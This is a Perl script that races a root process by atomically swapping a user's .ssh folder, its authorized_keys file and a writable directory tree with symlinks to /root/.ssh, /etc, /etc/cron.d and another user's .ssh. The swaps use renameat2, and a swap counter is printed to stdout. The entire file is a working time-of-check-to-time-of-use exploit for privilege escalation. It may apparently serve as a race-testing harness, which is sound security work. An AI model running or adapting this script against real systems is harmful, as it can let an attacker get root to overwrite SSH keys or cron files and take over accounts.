# Swaps names for others as fast as it may, and back: what root looked at is not what it opens.
# Prints at the same place of its stdout, again and again, how many swaps the kernel has done.
use strict;
use POSIX ();

my $renameat2 = (POSIX::uname())[4] eq "aarch64" ? 276 : 316;
my ($where, $count, $turn) = (shift, 0, 0);

# One step of the kernel's: there is no moment at which either name is missing.
sub swap {
    my ($one, $other) = @_;
    $count++ if syscall($renameat2, -100, $one, -100, $other, 2) == 0;
}

sub make_links {
    my $number = 0;
    for my $target (@_) { symlink($target, "to." . $number++) }
    return map { "to.$_" } 0 .. $number - 1;
}

# Others work on this machine, too; and a name that rests for a while is met by whoever is slower.
sub rest {
    sysseek(STDOUT, 0, 0);
    syswrite(STDOUT, "$count\n");
    select(undef, undef, undef, shift // 0.002);
}

# With every name in its place now and then for longer and longer: on the slowest machine, too, root
# gets to write at last.
my ($rests, $longer) = (0, 0.002);
sub rest_whole {
    return rest() if ++$rests % 16;
    $longer *= 1.04 if $longer < 1;
    rest($longer);
}

chdir $where or die "$where: $!";
my @folders = make_links("/root/.ssh", "/etc", "/home/victim/.ssh", "/srv/work", "/etc/cron.d");
mkdir "twin";
if (-d ".ssh") {
    link(".ssh/authorized_keys", "twin/authorized_keys");
    symlink("/root/.ssh/authorized_keys", ".ssh/link");
    link(".ssh/authorized_keys", ".ssh/hard");
    mkdir ".ssh/folder";
    POSIX::mkfifo(".ssh/fifo", 0600);
    symlink("/srv/work/file", "to.file");
    for (;;) {
        my $folder = (@folders, "twin")[$turn % 6];
        swap(".ssh", $folder);
        rest() if $turn % 16 == 4;
        swap(".ssh", $folder);
        my $name = ".ssh/" . ("link", "hard", "folder", "fifo")[$turn / 8 % 4];
        swap(".ssh/authorized_keys", $name);
        rest() if $turn % 16 == 8;
        swap(".ssh/authorized_keys", $name);
        for my $staged (glob(".ssh/.authorized_keys.*.tmp")) { swap($staged, "to.file") }
        rest_whole() if ++$turn % 16 == 0;
    }
} else {
    # A tree that root walks through: its folders turn into links to others' folders.
    for my $part ("a", "a/b", "a/b/c") {
        mkdir $part;
        chmod 0777, $part;
        for my $name ("file", "authorized_keys", "hosts") { open(my $new, ">", "$part/$name") }
    }
    for (;;) {
        for my $part ("a/b/c", "a/b", "a") {
            swap($part, $folders[$turn % 5]);
            rest() if $turn % 16 == 4;
            swap($part, $folders[$turn % 5]);
        }
        rest_whole() if ++$turn % 16 == 0;
    }
}
